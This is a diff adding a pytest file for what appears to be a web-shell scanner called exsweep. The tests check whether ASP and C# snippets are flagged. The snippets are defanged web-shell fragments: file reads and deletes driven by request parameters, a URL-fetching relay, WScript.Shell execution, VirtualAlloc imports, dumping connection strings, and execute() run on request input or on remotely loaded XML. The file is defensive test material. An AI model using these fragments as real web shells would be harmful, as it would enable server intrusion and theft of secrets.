@@ -1,0 +1,104 @@
+"""Checks that hold, and checks that are merely there; pages that stand alone; objects that nobody explains. EXSWEEP-INERT-FIXTURE"""
+
+import pytest
+
+from exsweep.model.files import FileVerdict
+
+from .pages import asp, csharp, ids, look, members
+
+_READS = "Response.Write(System.IO.File.ReadAllText(f));"
+_FIELD = 'string f=Req~uest["f"];'
+
+
+@pytest.mark.parametrize(
+    "check",
+    [
+        'if(f.StartsWith(Server.MapPath("~/d"))){}',
+        'if(f.StartsWith(Server.MapPath("~/d")))Response.Write(1);',
+        'if(!f.StartsWith(Server.MapPath("~/d")))Response.Write("no");',
+        'var own=new[]{"a","b"};own.Contains(f);',
+        'if(f.StartsWith("C:\\\\")){}',
+        'bool ok=f.StartsWith(Server.MapPath("~/d"));',
+        'if(true||f.StartsWith(Server.MapPath("~/d"))){}',
+    ],
+)
+@pytest.mark.parametrize(
+    "does",
+    [
+        _READS,
+        "System.IO.File.Delete(f);",
+        "foreach(var x in System.IO.Directory.GetFiles(f))Response.Write(x);",
+    ],
+)
+def test_a_check_from_which_nothing_follows_clears_no_page(check: str, does: str) -> None:
+    assert csharp(_FIELD + check + does).verdict is not FileVerdict.UNREMARKABLE
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'if(!f.StartsWith(Server.MapPath("~/d")))throw new Exception();' + _READS,
+        'if(!f.StartsWith(Server.MapPath("~/d"))){Response.StatusCode=403;Response.End();}' + _READS,
+        'if(f.StartsWith(Server.MapPath("~/d"))){' + _READS + "}",
+        'var own=new[]{"a","b"};if(own.Contains(f)&&f!=""){' + _READS + "}",
+    ],
+)
+def test_a_check_that_decides_what_is_done_counts(code: str) -> None:
+    assert csharp(_FIELD + code).verdict is FileVerdict.UNREMARKABLE
+
+
+def test_a_variable_that_is_given_another_value_after_its_check_is_not_checked() -> None:
+    code = 'if(!f.StartsWith(Server.MapPath("~/d")))throw new Exception();f=Req~uest["g"];' + _READS
+    assert csharp(_FIELD + code).verdict is not FileVerdict.UNREMARKABLE
+
+
+def test_a_relay_that_is_all_that_a_page_does_is_suspicious_and_one_that_belongs_to_a_site_is_not() -> None:
+    relay = (
+        'Set h = Server.CreateObject("Msxml2.ServerXMLHTTP"): h.open "GET", req~uest("u"), False: h.send\n'
+        "Response.Write h.responseText"
+    )
+    assert asp(relay).verdict is FileVerdict.SUSPICIOUS
+    inside = look(f'<!--#include file="head.inc"--><~%\n{relay}\n%~>', "page.asp")
+    assert inside.verdict is FileVerdict.UNREMARKABLE
+
+
+def test_a_constant_program_does_not_stand_alone() -> None:
+    assert all(each.code != "alone" for each in asp('CreateObject("WScr~ipt.Sh~ell").Run "a.exe"').reasons)
+
+
+def test_what_an_unexplained_object_is_told_is_shown() -> None:
+    page = asp('set o = CreateObject("Some~body.Tool"): o.program = req~uest("x"): o.begin')
+    assert "foreign-object" in ids(page)
+    assert "foreign-object" not in ids(asp('set o = CreateObject("JMail.Message"): o.body = req~uest("x")'))
+
+
+def test_a_declared_function_of_windows_counts_though_no_call_is_seen() -> None:
+    page = members(
+        '[DllImport("kernel32")]static extern System.IntPtr Virt~ualAlloc(System.IntPtr a,uint b,uint c,uint d);'
+    )
+    assert page.verdict is not FileVerdict.UNREMARKABLE
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "for each c in System.Configuration.ConfigurationManager.ConnectionStrings : Response.Write(c.ConnectionString) : next",
+    ],
+)
+def test_secrets_that_are_shown_are_found(code: str) -> None:
+    page = look(f'<~%@ Page Language="VB" %~>\n<~%\n{code.replace(" : ", chr(10))}\n%~>')
+    assert "show-secrets" in ids(page)
+    assert page.verdict is not FileVerdict.UNREMARKABLE
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'set b = createobject("System.Text.StringBuilder"): b.append_3 req~uest("x"): exec~ute b.tostring()',
+        'set d = createobject("msxml2.domdocument"): d.async = false: d.load "http://192.0.2.1/b.xml": exec~ute d.text',
+        'class c\npublic default property get v(a)\nexec~ute a\nend property\nend class\nz = (new c)(req~uest("x"))',
+        'set c = createobject("CDO.Configuration"): c.fields("http://schemas.microsoft.com/cdo/configuration/smtpserver") = req~uest("h")',
+    ],
+)
+def test_values_go_through_objects_of_com(code: str) -> None:
+    assert asp(code).verdict is not FileVerdict.UNREMARKABLE
